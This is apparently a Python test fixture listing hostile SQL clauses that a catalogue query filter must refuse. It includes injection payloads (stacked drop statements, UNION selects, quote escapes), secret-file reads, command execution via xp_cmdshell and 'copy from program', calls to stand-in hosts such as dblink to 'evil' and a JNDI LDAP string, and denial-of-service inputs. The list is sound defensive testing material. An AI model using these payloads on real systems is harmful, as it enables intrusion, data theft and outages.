"""Clauses that strangers may send: everything here is refused, or finds rows and does nothing else."""

_LINES = r"""
; drop table t
z > 1; drop table t
z > 1; select 1
z > 1;
z > 1 ; ; ;
z > 1 -- comment
z > 1 --
z > 1 # comment
z > 1 /* comment */
z > 1 /*! comment */
z > 1 */
z > 1 union select 1
z > 1 union all select specobjid from t
z > 1 except select 1
z > 1 intersect select 1
z > 1) union select (1
z > 1) or (select 1) = (1
1 = 1) union select * from duckdb_settings() where (1 = 1
z in (select z from t)
z in (select 1)
z in (table t)
z in (values (1))
z in (from t)
z = (select max(z) from t)
z = (from t select z)
z = (with x as (select 1) select * from x)
z > all (select 1)
z > some (select 1)
z > any (array[1, 2])
z = any(1)
z = any('{1,2}')
exists (select 1)
not exists (select 1)
exists (select * from read_csv('{secret}'))
(select 1) = 1
((select 1)) = 1
(values (1)) = 1
(table t) = 1
(select content from read_text('{secret}')) like '%canary%'
case when (select 1) = 1 then true end
lateral (select 1)
z in (select * from lateral (select 1) x)
z > 1 group by z
z > 1 group by all
z > 1 having z > 1
group by z
having count(*) > 1
z > 1 window w as ()
z > 1 for update
z > 1 for update of t skip locked
z > 1 for no key update
z > 1 lock in share mode
z > 1 qualify z
z > 1 limit 5 for share
z > 1 into outfile '/tmp/x'
z > 1 into x
z > 1 tablesample bernoulli (10)
z > 1 using sample 10
z > 1 order by all
order by all
order by *
z > 1 sort by z
z > 1 cluster by z
z > 1 distribute by z
z > 1 |> limit 5
count(*) > 1
count(distinct z) > 1
sum(z) > 1
max(z) = z
avg(z) > 1 and z > 1
sum(z) filter (where z > 1) > 1
abs(z) filter (where z > 1) > 1
abs(z) over () > 1
abs(distinct z) > 1
abs(all z) > 1
abs(z order by z) > 1
abs(z ignore nulls) > 1
abs(*) > 1
abs(z := 1) > 1
abs(z => 1) > 1
abs(variadic z) > 1
abs(z) within group (order by z) > 1
string_agg(class, ',') like '%'
array_agg(z) is null
list(z) is null
histogram(z) is null
first(z) = 1
arg_max(z, z) = 1
rank() over (order by z) = 1
row_number() over () < 5
sum(z) over (partition by class) > 1
lag(z) over w > 1
grouping(z) = 1
class ~ 'x'
class ~* '(a+)+$'
class !~ 'x'
class !~* 'x'
class similar to 'x'
class similar to '(a|b)*'
class rlike 'x'
class regexp 'x'
class glob '*'
class like any ('a', 'b')
class like all (array['a'])
class ^@ 'Q'
class like '%' || class || '%'
regexp_matches(class, '(x+x+)+y')
regexp_replace(class, 'x', 'y') = 'y'
regexp_full_match(class, 'x')
regexp_extract_all(class, '(a+)+') is null
string_split_regex(class, 'x') is null
read_csv('{secret}') = 1
read_csv_auto('{secret}') is not null
read_text('{secret}') is not null
read_blob('{secret}') = 'x'
read_json('{secret}') = 1
read_json_auto('{secret}') = 1
read_ndjson_objects('{secret}') = 1
read_parquet('x') = 1
parquet_scan('{secret}') = 1
parquet_metadata('{secret}') = 1
sniff_csv('{secret}') = 1
glob('*') = 1
'{secret}' = 1
"{secret}" = 1
"{secret}".z = 1
'{secret}'.content = 'x'
getenv('HOME') = 'x'
getvariable('x') = 'x'
current_setting('memory_limit') = 'x'
set_config('threads', '1', false) = '1'
pg_read_file('{secret}') = 'x'
pg_read_binary_file('{secret}') is null
pg_ls_dir('/') = 'x'
pg_stat_file('{secret}') is null
pg_sleep(10) is null
pg_terminate_backend(1)
pg_cancel_backend(1)
pg_reload_conf()
pg_backend_pid() > 0
pg_advisory_lock(1) is null
pg_database_size('x') > 0
pg_typeof(z) = 'x'
lo_import('{secret}') > 0
lo_export(1, '/tmp/x') > 0
dblink('host=evil', 'select 1') is null
dblink_exec('x', 'drop table t') is null
query_to_xml('select 1', true, true, '') is null
xmlparse(document '<x/>') is null
xpath('/x', class) is null
txid_current() > 0
inet_server_addr() is null
has_table_privilege('t', 'select')
convert_from('\x41', 'utf8') = 'A'
encode('abc', 'base64') = 'x'
sleep(1) = 1
benchmark(1000000000, md5('x')) = 1
load_file('{secret}') = 'x'
xp_cmdshell('ls') = 1
sys_eval('ls') = 1
version() = 'x'
current_user = 'x'
session_user = 'x'
user = 'x'
current_user() = 'x'
current_database() = 'x'
current_schema = 'x'
current_schemas(true) is null
current_date > z
current_timestamp is null
localtimestamp is null
now() > z
today() > z
random() > 0.5
setseed(0.5) is null
uuid() = 'x'
gen_random_uuid() = 'x'
nextval('x') = 1
currval('x') = 1
hash(z) = 1
error('x') = 1
sql('select 1') = 1
query('select 1') = 1
query_table('t') = 1
duckdb_settings() is null
duckdb_secrets() is null
which_secret('x', 's3') is null
add_parquet_key('k', 'x') is null
checkpoint() is null
force_checkpoint() is null
in_search_path('x', 'y')
is_histogram_other_bin(z)
write_log('x') is null
parse_duckdb_log_message('x', 'y') is null
enable_logging() is null
install_extension('httpfs')
load_aws_credentials() is null
http_get('http://127.0.0.1/') is null
repeat('x', 2000000000) = class
repeat('x', 2e9) = class
repeat('x', mjd) = class
repeat(repeat(repeat('x', 1000), 1000), 1000) = class
repeat(class, 1000) || repeat(class, 1000) || repeat(class, 1000) || repeat(class, 1000) = class
replace(replace(replace(class, 'A', 'AAAAAAAAAA'), 'A', 'AAAAAAAAAAAAAAAAAAAAAA'), 'A', 'AAAAAAAAAAAAAAAAAAAAAAA') = 'x'
replace(class, class, 'AAAA') = 'x'
replace(class, 'A', class) = 'x'
lpad('x', 2000000000, 'x') = class
lpad('x', mjd, 'x') = class
lpad('x', 10, '') = class
rpad(class, 1000000000) = 'x'
left(repeat('x', 999999999), 1) = 'x'
substr(class, 1, 99999999999999999999) = 'x'
bar(z, 0, 1, 1000000000) = 'x'
format('{:1000000000}', z) = 'x'
printf('%1000000000d', z) = 'x'
to_char(z, '9999999') = 'x'
chr(0) = class
chr(1114112) = class
chr(mjd) = class
range(1000000000) is null
generate_series(1, 1000000000) is null
unnest(range(1000000000)) = 1
list_value(1, 2) is null
list_transform([1, 2], x -> x + 1) is null
list_transform([1, 2], lambda x: x + 1) is null
[x + 1 for x in [1, 2]] is null
[x for x in range(1000000000)] is null
list_reduce([1, 2], (x, y) -> x + y) = 3
[1, 2, 3][1] = 1
[1, 2] = mag
{'a': 1} is null
{'a': 1}.a = 1
struct_pack(a := 1).a = 1
map {'a': 1} is null
map(['a'], [1]) is null
union_value(a := 1) is null
array[1, 2] is null
array[1, 2] = mag
array_value(1, 2) is null
unnest(mag) > 1
columns(*) > 1
columns('z.*') > 1
columns(c -> c = 'z') > 1
*columns(*) > 1
unpack(columns(*)) > 1
* exclude (z) = 1
* replace (1 as z) = 1
mag > 1
mag = mag
mag[0] > 1
mag[-1] > 1
mag[z] > 1
mag[1:2] is null and mag[1:2] = mag[2:3]
mag[:] is null
mag[1][1] > 1
mag[1, 2] > 1
mag[1000000000000] > 1
z[1] > 1
'abc'[1] = 'a'
class[1] = 'G'
class[1:2] = 'GA'
mag || 'x' = 'y'
mag || mag is null
coalesce(mag, mag) is null
case when true then mag end is null
abs(mag) > 1
mag in (1, 2)
mag between 1 and 2
mag::text = 'x'
(mag).x = 1
unknown > 1
rowid = 1
_row = 1
file_row_number = 1
filename = 'x'
t.z > 1
t = 1
specobj = 1
main.specobj.z > 1
specobj.* = 1
specobj.z.x = 1
pg_catalog.pg_class.relname = 'x'
information_schema.tables.table_name = 'x'
list_1 = 1
sky_1 is null
z in (list_1)
z in list_1
z in mag
excluded.z = 1
* = 1
z > $1
z > $z
z in ($1)
array[$1] is null
z > ?
z > ?1
z > :name
z > :1
z > @z
z > @@version
z > %s
z > %(z)s
z > {z}
z > #{z}
z > ${jndi:ldap://evil/x}
z > $$1$$
z = E'a\'b'
z = e'\x41'
class = E'\\'
z = B'101'
z = X'1F'
z = 0x1F
z = 0b101
z = 0o17
z = U&'a'
class = U&'\0041'
class = U&"\0041"
z = N'a'
class = _utf8'a'
class = $$a$$
class = $tag$a$tag$
class = 'a' 'b'
class = 'a' || 'b' 'c'
class = "QSO"
z = 'open
"open
class = 'it's'
class = '''
class = ''''''' or 1 = 1
class = 'x\' or 1 = 1 -- '
z = `z`
z = [z]
z = {d '2020-01-01'}
z > 1 {{ jinja }}
z > 1 {% raw %}
z > 1 \g
z > 1 \! ls
z > 1 \copy t to '/tmp/x'
z > 1\
z > 1 limit -1
z > 1 limit 1.5
z > 1 limit 1e1
z > 1 limit 1+1
z > 1 limit (1)
z > 1 limit all
z > 1 limit null
z > 1 limit '5'
z > 1 limit z
z > 1 limit 5 percent
z > 1 limit 5%
z > 1 limit 5, 3 limit 2
z > 1 limit 5, 3
z > 1 limit 5 limit 6
z > 1 limit 5 with ties
z > 1 limit 5 by z
z > 1 limit (select 1)
z > 1 limit cast('5' as int)
z > 1 limit 99999999999999999999999
z > 1 limit 0x10
z > 1 limit $1
z > 1 offset -1
z > 1 offset z
z > 1 offset 5 rows fetch next 5 rows only
z > 1 offset (select 1)
z > 1 offset 1 offset 2
z > 1 fetch first 5 rows only
z > 1 fetch first row with ties
order by (select 1)
order by 1
order by (1)
order by -1
order by +1
order by 1 + 1
order by 'x'
order by null
order by true
order by pi()
order by count(*)
order by random()
order by mag
order by unknown
order by z using >
order by z collate "C"
order by z asc desc
order by z nulls
order by z,
order by , z
order by
order by z limit 5; drop table t
order by z union select 1
order by z where z > 1
order by (z, q)
order by z as x
order by z with fill
z
z + 1
'text'
1
abs(z)
z and z > 1
z or 1
not z
not 1
case when z then 1 end = 1
z like 'x'
class like z
class like lower('x')
class like null
class like 'x\'
class like 'x' escape 'ab'
class like 'x' escape ''
class like 'x!' escape '!'
class + 1 > 2
class + class > 2
class > 5
class = z
class = true
z = true
z = 'abc'
z = '1e999'
mjd = '1.5'
mjd = '0x1F'
clean = 'maybe'
clean = 1
clean > 0.5
z between class and 1
z between 'a' and 'b'
class in (1, 2)
z in ('a', 'b')
mjd in ('1.5', '2')
z || mjd = 'x'
mjd || mjd = 'x'
z || class = 'x'
z::text = 'x'
concat(z) = 'x'
lower(clean) = 'x'
class || mag = 'x'
class collate "C" = 'x'
-class = 'x'
-clean
~z = 1
~class = 1
z & 1 = 1
mjd & 1.5 = 1
mjd << z > 1
mjd << 1000 > 1
mjd << -1 > 1
-mjd << mjd > 1
mjd << specobjid > 1
specobjid << specobjid > 1
specobjid * specobjid << 70 > 1
null between '-5' and 1000::bigint
null in (plate, 'a', 0.0)
plate = '999999999999999999999999999999999999999'
q3c_radial_query(ra, dec, ((-8)^0.5)::int, 2, 1)
z > 2e1-
2e1+-z > 1e0--1
-1 << 3 > mjd
1 << 63 > mjd
@ z > 1
z ! > 1
!! 5 = 120
5 ! = 120
factorial(1000000) > 1
10 ^ 10 ^ 10 > z
10.0 ^ 10000000 > z
power(9e300, 9e300) > z
exp(1e308) > z
9223372036854775807 + mjd > 0
9223372036854775807 * 9223372036854775807 > z
-9223372036854775808 - mjd > 0
-(-9223372036854775808) > z
abs(-9223372036854775808) > z
lcm(9223372036854775807, 9223372036854775806) > z
gcd(-9223372036854775808, 0) > z
mjd * mjd * mjd * mjd * mjd * mjd > 0
specobjid * specobjid * specobjid > 0
specobjid ^ specobjid > 0
1 / 0 > z
mjd / 0 > 1
mjd % 0 > 1
z / 0 > 1
mod(mjd, 0) = 1
div(mjd, 0) = 1
0 / 0 = 0
sqrt(-1) > z
ln(0) > z
ln(-1) > z
log(0, 0) > z
log(1, 5) > z
asin(2) > z
acos(z * 1e300) > z
atanh(1) > z
0 ^ -1 > z
(-8) ^ (1.0 / 3) > z
round(z, 2147483647) = 1
round(z, -2147483648) = 1
round(z, 99999999999) = 1
trunc(z, 2000000000) = 1
left(class, -2147483648) = ''
left(class, 2147483647) = class
right(class, -2147483648) = ''
substr(class, -2147483648, 2147483647) = ''
substr(class, 2147483647, 2147483647) = ''
substr(class, 9223372036854775807) = ''
split_part(class, '', 1) = 'x'
split_part(class, '-', 0) = 'x'
split_part(class, '-', 2147483647) = ''
split_part(class, class, mjd) = ''
sqrt(class) > 1
sqrt() > 1
sqrt(1, 2) > 1
lower(z) = 'x'
left(class, 'x') = 'y'
left(class, 1.5) = 'y'
coalesce() is null
coalesce(z, class) is null
coalesce(clean, 1) is null
greatest(z, class) is null
nullif(z, class) is null
nullif(z) is null
case when z > 1 then 1 else 'x' end = 1
case z when class then 1 end = 1
case end = 1
case when then end = 1
class::int = 1
class::float8 > 1
mjd::int2 = 1
1e300::real = 1
1e300::int = 1
'NaN'::int = 1
'abc'::int = 1
'abc'::bool
class::bool
z::bool
clean::float8 > 0
z::json is null
class::jsonb is null
class::xml is null
z::numeric(10, 2) = 1
class::char(3) = 'x'
class::varchar(-1) = 'x'
class::varchar(99999999999999999999) = 'x'
class::date > '2020-01-01'
class::timestamp is null
class::interval is null
class::uuid is null
class::bytea is null
class::blob is null
class::bit(3) is null
class::inet is null
class::money is null
class::"char" = 'x'
z::int[] is null
mag::text[] is null
z::regclass is null
'pg_class'::regclass::oid = 1
class::regproc is null
class::struct(a int) is null
class::map(int, int) is null
class::enum('a') is null
class::unknown_type is null
class::hugeint is null
class::ubigint is null
date '2020-01-01' > z
timestamp 'now' > z
time '12:00' > z
interval '1 day' > z
interval 1 day > z
z at time zone 'UTC' > 1
extract(year from z) = 1
extract(epoch from now()) > z
overlay(class placing 'x' from 1) = 'x'
position('x', class) = 1
substring(class similar 'x' escape '#') = 'x'
substring(class from 'x(.*)y') = 'x'
trim(class, 'x', 'y') = 'x'
normalize(class, nfc) = 'x'
treat(z as int) = 1
collation for (class) = 'x'
convert(class using utf8) = 'x'
char(65) = 'A'
(z, q) = (1, 2)
(z, q) in ((1, 2))
(z, q) overlaps (1, 2)
row(1, 2) = row(1, 2)
() = ()
z in ()
z in (1,)
z in (*)
z in 1
z in (1) in (2) in 3
z not in
z is json
z is document
z is normalized
z is of (int)
z is unknown is null is 5
z is 5
z is 'x'
z is distinct 5
z is distinct from
z is not
z -> 'x' = 1
z ->> 'x' = 1
z #> 'x' = 1
z @> 1
z <@ 1
z && 1
z ?| 'x'
z ?& 'x'
z @@ 'x'
z <-> 1 < 1
z <=> 1
z === 1
z == 1
z := 1
z ~= 1
z **2 = 1
z // 2 = 1
z div 2 = 1
z mod 2 = 1
z xor q
z && q > 1
z || q > 1
z operator(pg_catalog.>) 1
z operator(pg_catalog.+) 1 > 1
z :: = 1
try_cast(z as int) = 1
safe_cast(z as int) = 1
try(z / 0) is null
lambda x: x > 1
x -> x > 1
z > 1e999
z > -1e999
z > 1e-99999 and z > 1e99999999999
z > 99999999999999999999999999999999999999999999999
z = 1_000
z = 1__0
z = 1a
z = 1.2.3
z = 1e
z = 1..2
z = .
z ==== 1
z > > 1
z > = 1
z >
> 1
()
(
)
,
.
*
-
+
=
(z > 1
z > 1)
)z > 1(
and z > 1
or
not
z > 1 or
z > 1 and and q > 1
z > 1 q > 1
where
where where z > 1
where z > 1 where q > 1
0 < z < 1
z = q = 1
z < q > 1
select 1
select * from t
insert into t values (1)
insert into specobj values (1) returning 1
update t set z = 1
delete from t
truncate t
merge into t using t on true when matched then delete
drop table t
drop schema main cascade
create table x as select 1
create function f() returns int as 'x' language c
create macro f(x) as x
create secret (type s3)
alter table t drop column z
comment on table t is 'x'
grant all on t to public
copy t to '{copied}'
copy (select 1) to '{copied}'
copy t from program 'ls'
export database '{copied}'
import database '{copied}'
attach '{copied}'
attach 'x.db' as y
detach x
use memory
install httpfs
load httpfs
load '{secret}'
pragma version
pragma database_list
pragma disable_verification
set threads = 1
set enable_external_access = true
set variable x = 1
reset threads
show tables
describe t
summarize t
pivot t on z
unpivot t on z into name n value v
call pragma_version()
call dbgen(sf = 1)
explain select 1
explain analyze select 1
prepare x as select 1
execute x
deallocate x
declare c cursor for select 1
begin
commit
rollback
vacuum
analyze
checkpoint
listen x
notify x
do 'begin end'
lock table t
with x as (select 1) select 1
with recursive x as (select 1 union all select 1 from x) select 1
values (1)
table t
from t
z > 1 as x
z as x > 1
(z as x) > 1
z > 1, q > 1
z > 1 join t on true
z > 1 cross join t
z > 1 natural join t
q3c_radial_query(ra, dec, 1, 2)
q3c_radial_query(ra, dec, 1, 2, 3, 4)
q3c_radial_query(ra, dec, 1, 2, 0)
q3c_radial_query(ra, dec, 1, 2, 1/3600)
q3c_radial_query(ra, dec, 1, 2, -1)
q3c_radial_query(ra, dec, 1, 2, 181)
q3c_radial_query(ra, dec, 1, 91, 1)
q3c_radial_query(ra, dec, 1, 2, 1e308)
q3c_radial_query(ra, dec, 'NaN', 2, 1)
q3c_radial_query(ra, dec, 1, 2, 'Infinity')
q3c_radial_query(ra, dec, 1, 2, (select 1))
q3c_radial_query(ra, dec, class, 2, 1)
q3c_radial_query(ra, dec, 10^10^10, 2, 1)
q3c_radial_query(ra, dec, 9^9^9^9, 2, 1)
q3c_radial_query(ra, dec, 1/0, 2, 1)
q3c_radial_query(ra, dec, (-8)^0.5, 2, 1)
q3c_radial_query(t.ra, t.dec, 1, 2, 1)
q3c_radial_query(*, 1, 2, 1)
q3c_radial_query(ra, dec, 1, 2, 1) over ()
q3c_radial_query(ra, dec, 1, 2, 1) > 0
q3c_radial_query(ra, dec, 1, 2, 1) + 1 = 2
q3c_radial_query()
q3c_poly_query(ra, dec)
q3c_poly_query(ra, dec, array[])
q3c_poly_query(ra, dec, array[1, 2])
q3c_poly_query(ra, dec, array[1, 2, 3])
q3c_poly_query(ra, dec, array[1, 1, 1, 1, 1, 1])
q3c_poly_query(ra, dec, array[0, 0, 120, 0, 240, 0])
q3c_poly_query(ra, dec, array[0, 0, 10, 95, 20, 0])
q3c_poly_query(ra, dec, array[ra, dec, 1, 2, 3, 4])
q3c_poly_query(ra, dec, array[(select 1), 2, 3, 4, 5, 6])
q3c_poly_query(ra, dec, array[array[1, 2], array[3, 4]])
q3c_poly_query(ra, dec, array(select 1))
q3c_poly_query(ra, dec, '{}')
q3c_poly_query(ra, dec, '{1, 2, x, 4, 5, 6}')
q3c_poly_query(ra, dec, '{{1, 2}, {3, 4}, {5, 6}}')
q3c_poly_query(ra, dec, '(0,0),(1,1)'::polygon)
q3c_poly_query(ra, dec, mag)
q3c_poly_query(q, u, array[0, 0, 10, 0, 10, 10])
q3c_poly_query(dec, ra, array[0, 0, 10, 0, 10, 10])
q3c_join(ra, dec, ra, dec, 0.1)
q3c_ellipse_query(ra, dec, 1, 2, 3, 0.5, 10)
q3c_ellipse_join(ra, dec, ra, dec, 3, 0.5, 10)
q3c_ang2ipix(ra, dec) > 0
q3c_version() = 'x'
q3c_dist(ra, dec) < 1
q3c_dist(ra, dec, class, 1) < 1
q3c_dist(ra, dec, mag, 1) < 1
q3c_dist(ra, dec, 'x', 1) < 1
q3c_dist
order by q3c_join(ra, dec, ra, dec, 1)
"""

_UNICODE = [
    "z \u00a0> 1",
    "z > 1 and \u200bclass = 'x'",
    "z\u200d > 1",
    "\ufeffz > 1",
    "class = \u2018x\u2019",
    "class = \u201cx\u201d",
    "class = \uff07x\uff07 or 1 = 1",
    "class = 'x\uff07 or 1 = 1 --",
    "class = 'x\u02bc or 1 = 1 --'",
    "\uff5a > 1",
    "z \uff1e 1",
    "z > \uff11",
    "z > \u0661",
    "z > \u00b2",
    "\u0405\u0415L\u0415\u0421T 1",
    "cl\u0430ss = 'x'",
    "z > 1 \uff1b drop table t",
    "z > 1 \u037e drop table t",
    "z \u2212 1 > 0",
    "z \u2265 1",
    "z > 1 \u202e or 1 = 1",
    "class = '\u202e' or \u2066z\u2069 > 1",
    "z\u2028> 1",
    "z\u0085> 1",
    "z > 1\x1a",
    "z\x0b> 1 \x0c",
    "z > 1\r\n-- x",
    "z > 1 \x1b[2J",
    "z > 1 \0",
    "class = '\0'",
    '"\0" = 1',
    "class = '\ud800'",
    "class = '\U0010ffff' or \U0001f52d > 1",
    "z\u0301 > 1",
    '"z\u0301" > 1',
    '"\u202ez" > 1',
    '"a\nb" > 1',
    "\u017felect 1",
    "\u212a > 1",
    "upper(class) = '\u0131' or \u0130 > 1",
    "%00z > 1",
    "z%20>%201",
    "z &gt; 1",
    "z > 1&amp;x",
]

_LARGE = [
    "(" * 33 + "z > 1" + ")" * 33,
    "(" * 100_000,
    ")" * 100_000,
    "[" * 100_000,
    "z[" * 60,
    "abs(" * 40 + "z" + ")" * 40 + " > 1",
    "abs(" * 100_000,
    "not " * 500 + "z > 1",
    "not " * 100_000 + "z > 1",
    "z > " + "- " * 500 + "1",
    "z > " + "-" * 1000,
    "z > " + "+ " * 100_000 + "1",
    "~" * 100_000 + "mjd > 1",
    "case when z > 1 then " * 50 + "1" + " end" * 50 + " = 1",
    "case " * 100_000,
    "(-" * 20 + "z" + ")" * 20 + " > 1",
    "z > " + " + ".join("1" * 300),
    "z > " + "^".join("9" * 190),
    "class = " + " || ".join(["class"] * 300),
    "class = " + " || ".join(["repeat(class, 900)"] * 190),
    " or ".join(["z = 1"] * 3000),
    " or ".join(["z = 1"] * 100_000),
    "z = 1" + " is true" * 2000,
    "z" + "::int" * 2000 + " = 1",
    "z" + ".z" * 2000 + " = 1",
    "z > " + "9" * 100_000,
    "z > 0." + "9" * 100_000,
    "z > 1e" + "9" * 100_000,
    "z in (" + ",".join(["1"] * 100) + ",99999999999999999999)",
    "z in (" + ",".join(["1"] * 100) + "," + "9" * 5000 + ")",
    "z in (" + ",".join(["1"] * 100) + ", x)",
    "z in (" + ",".join(["-1"] * 60) + ",18446744073709551615)",
    "class in (" + ",".join(["1"] * 100) + ")",
    "z in (" + ",".join(["'x'"] * 100) + ")",
    "mjd in (" + ",".join(["'x'"] * 100) + ")",
    "z in (" + "(" * 50_000,
    "class = '" + "x" * 2_000_000 + "'",
    "class = '" + "x" * 2_000_000,
    "class = '" + "''" * 400_000 + "'",
    "class like '" + "%a" * 5000 + "%b'",
    "class like '" + "%_a" * 200 + "%b_'",
    "repeat('a', 1000) like '" + "%a%_" * 100 + "b'",
    "repeat('a', 1000) ilike '" + "%a%_" * 100 + "b'",
    "repeat('a', 1000) like '" + "%_!a" * 100 + "b' escape '!'",
    "class ~ '" + "(a+)+" * 100 + "$'",
    "x" * 1_000_000 + " > 1",
    '"' + "x" * 999_000 + '" > 1',
    "x" * 1_000_001,
    " " * 1_000_000,
    "\n" * 500_000 + "z > ",
    "q" * 5000 + "(z) > 1",
    "abs(" + ",".join("z" * 2000) + ") > 1",
    "coalesce(" + ",".join("z" * 51) + ") > 1",
    "coalesce(" * 30 + "z" + ", 1)" * 30 + " > 1",
    "substr(" * 30 + "class" + ", 2, 3)" * 30 + " = 'x'",
    "substr(class, " + "abs(" * 20 + "mjd" + ")" * 20 + ", 3) = 'x'",
    "substr(class, length(" * 15 + "class" + "), 3)" * 15 + " = 'x'",
    "q3c_dist(" * 25 + "ra" + ", dec, 1, 2)" * 25 + " > 1",
    "z between symmetric " * 12 + "1 and 2" + " and 3" * 11,
    "(z ^ " * 31 + "2" + ")" * 31 + " > 1",
    "order by " + ",".join(["z"] * 2000),
    "order by " + ",".join(["z"] * 10_000),
    "q3c_poly_query(ra, dec, array[" + ",".join(["1", "2"] * 5000) + "])",
    "q3c_poly_query(ra, dec, array[" + ",".join(f"{n},1" for n in range(1001)) + "])",
    "q3c_poly_query(ra, dec, array[" + ",".join(["1.2.3"] * 100) + "])",
    "q3c_poly_query(ra, dec, array[" + ",".join(["1e999"] * 100) + "])",
    "q3c_poly_query(ra, dec, '{" + ",".join(["1", "2"] * 100_000) + "}')",
    " or ".join(f"q3c_radial_query(ra, dec, {n}, 0, 90)" for n in range(300)),
    "q3c_radial_query(ra, dec, " + "*".join(["9" * 38] * 150) + ", 20, 5)",
    " or ".join(["plate in (" + ",".join(["1"] * 60) + ")"] * 200),
    " and ".join(f"q3c_radial_query(ra, dec, {n}, 0, 90)" for n in range(300)),
    "length(repeat(class, 1000)) > 0",
    "array[" + ",".join(["1"] * 200_000) + "] is null",
    "z = array[" + ",".join(["1"] * 200) + "]",
]

HOSTILE = [*_LINES.strip("\n").split("\n"), *_UNICODE, *_LARGE]
"""``{secret}`` and ``{copied}`` stand for paths of files next to the data: one that is there and one that is not."""
